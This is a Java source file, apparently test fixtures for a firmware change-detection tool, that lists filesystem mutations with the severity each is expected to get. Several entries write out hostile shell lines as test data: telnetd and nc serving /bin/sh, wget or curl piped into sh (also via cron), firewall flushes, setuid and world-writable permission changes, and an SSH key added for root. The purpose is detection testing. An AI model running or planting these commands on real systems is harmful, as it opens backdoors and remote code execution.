package org.vitrine.cli;

import java.util.ArrayList;
import java.util.List;
import org.vitrine.change.ChangeKind;

/// What listens, what is called, what scripts do; each with a harmless twin.
final class ExposureMutations {
    private static final String RCS = "etc/init.d/rcS";
    private static final String NGINX = "etc/nginx/nginx.conf";
    private static final String HELPER = "etc/helper.conf";

    private final List<Mutation> all = new ArrayList<>();
    private final SmallRoot root;

    private ExposureMutations(SmallRoot root) {
        this.root = root;
    }

    static List<Mutation> all(SmallRoot root) {
        ExposureMutations mutations = new ExposureMutations(root);
        mutations.listeners();
        mutations.endpoints();
        mutations.programs();
        mutations.scripts();
        return mutations.all;
    }

    private void changed(String name, String path, String found, Mutation.Step step) {
        Mutation.add(all, name, path, ChangeKind.CHANGED, found, step);
    }

    private void line(String name, String line, String found) {
        changed(name, RCS, found.isEmpty() ? "start-place LOW" : found + ", start-place LOW", t -> t.append(RCS, line));
    }

    private void listeners() {
        line(
                "telnetd on a port of its own",
                "telnetd -p 2323 -l /bin/sh &",
                "service-added HIGH, listener-added HIGH, setting-changed LOW, setting-changed LOW");
        line("telnetd commented out", "#telnetd -p 2323 -l /bin/sh &", "");
        changed(
                "listener for the device itself",
                NGINX,
                "listener-added LOW",
                t -> t.replace(NGINX, "listen 443 ssl;", "listen 443 ssl;\n    listen 127.0.0.1:9000;"));
        changed(
                "listener for the device alone",
                NGINX,
                "listener-changed INFO",
                t -> t.replace(NGINX, "listen 443 ssl;", "listen 127.0.0.1:443 ssl;"));
        changed(
                "listener removed",
                "etc/inetd.conf",
                "service-removed LOW, listener-removed INFO",
                t -> t.replace("etc/inetd.conf", "ftp stream", "#ftp stream"));
        changed(
                "listener with another option",
                NGINX,
                "listener-changed LOW",
                t -> t.replace(NGINX, "listen 443 ssl;", "listen 443 ssl http2;"));
        changed("listener with more blanks", NGINX, "", t -> t.replace(NGINX, "listen 443 ssl;", "listen  443  ssl;"));
        Mutation.add(
                all,
                "socket unit",
                "etc/systemd/system/debug.socket",
                ChangeKind.ADDED,
                "listener-added MEDIUM, start-place MEDIUM",
                t -> t.file("etc/systemd/system/debug.socket", "[Socket]\nListenStream=0.0.0.0:9999\n"));
    }

    private void endpoints() {
        changed(
                "another host",
                HELPER,
                "endpoint-added MEDIUM, endpoint-removed INFO",
                t -> t.replace(HELPER, "report.widgets-lab.io", "report.gadgets-lab.io"));
        changed("one host more", HELPER, "endpoint-added MEDIUM", t -> t.append(HELPER, "also = mqtt://203.0.114.7"));
        changed(
                "no host any more",
                HELPER,
                "endpoint-removed INFO",
                t -> t.replace(HELPER, "server = https://report.widgets-lab.io/v1\n", ""));
        changed("without TLS", HELPER, "endpoint-plain HIGH", t -> t.replace(HELPER, "https://", "http://"));
        changed("another path at the host", HELPER, "", t -> t.replace(HELPER, "/v1", "/v2"));
        changed(
                "host in a comment",
                HELPER,
                "",
                t -> t.append(HELPER, "# see https://manual.gadgets-lab.io/\n# or http://gadgets-lab.io/report"));
        changed(
                "hosts that lead nowhere",
                HELPER,
                "",
                t -> t.append(HELPER, "local = http://127.0.0.1:8080/\nsample = https://www.example.com/report"));
        changed(
                "names of namespaces",
                HELPER,
                "",
                t -> t.append(HELPER, "xmlns = http://www.w3.org/2000/svg\nschema = http://schemas.xmlsoap.org/soap"));
    }

    private void programs() {
        changed(
                "host in a program",
                "usr/bin/tool",
                "endpoint-added MEDIUM",
                t -> t.file("usr/bin/tool", 0755, root.hardened("https://beacon.widgets-lab.io/x")));
        changed(
                "host in a program that settings name",
                "usr/bin/tool",
                "",
                t -> t.file("usr/bin/tool", 0755, root.hardened("https://report.widgets-lab.io/x")));
        changed(
                "namespace in a program",
                "usr/bin/tool",
                "",
                t -> t.file("usr/bin/tool", 0755, root.hardened("http://www.w3.org/2000/svg")));
    }

    private void scripts() {
        line(
                "fetched and run",
                "wget -qO- http://get.widgets-lab.io/x | sh",
                "script-step-added HIGH, endpoint-added MEDIUM");
        line("evaluated", "eval \"$(curl -s $SERVER/x)\"", "script-step-added HIGH");
        line("fetched", "wget -O /tmp/x $SERVER/x", "script-step-added MEDIUM");
        line("shell that listens", "nc -l -p 4444 -e /bin/sh", "script-step-added HIGH");
        line("filter flushed", "iptables -F", "script-step-added HIGH");
        line("filter open", "iptables -P INPUT ACCEPT", "script-step-added HIGH");
        line("root writable", "mount -o remount,rw /", "script-step-added MEDIUM");
        line("mode loosened", "chmod 777 /etc/passwd", "script-step-added MEDIUM");
        line("setuid by a script", "chmod u+s /bin/busybox", "script-step-added MEDIUM");
        line("key by a script", "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "script-step-added HIGH");
        line("harmless filter", "iptables -A INPUT -i lo -j ACCEPT", "");
        line("harmless mode", "chmod 755 /etc/init.d", "");
        line("root read-only", "mount -o remount,ro /", "");
        line("harmless print", "echo wget http://get.widgets-lab.io/x", "");
        line("asked for its version", "wget --version | head -1", "");
        changed(
                "fetched and run by cron",
                "etc/crontabs/root",
                "script-step-added MEDIUM, start-place LOW",
                t -> t.append("etc/crontabs/root", "*/5 * * * * curl -s $SERVER | sh"));
        Mutation.add(
                all,
                "script that loosens",
                "usr/bin/fix.sh",
                ChangeKind.ADDED,
                "script-added LOW, script-step-added LOW",
                t -> t.file("usr/bin/fix.sh", 0755, SmallRoot.text("#!/bin/sh\nchmod 4755 /bin/busybox\n")));
    }
}
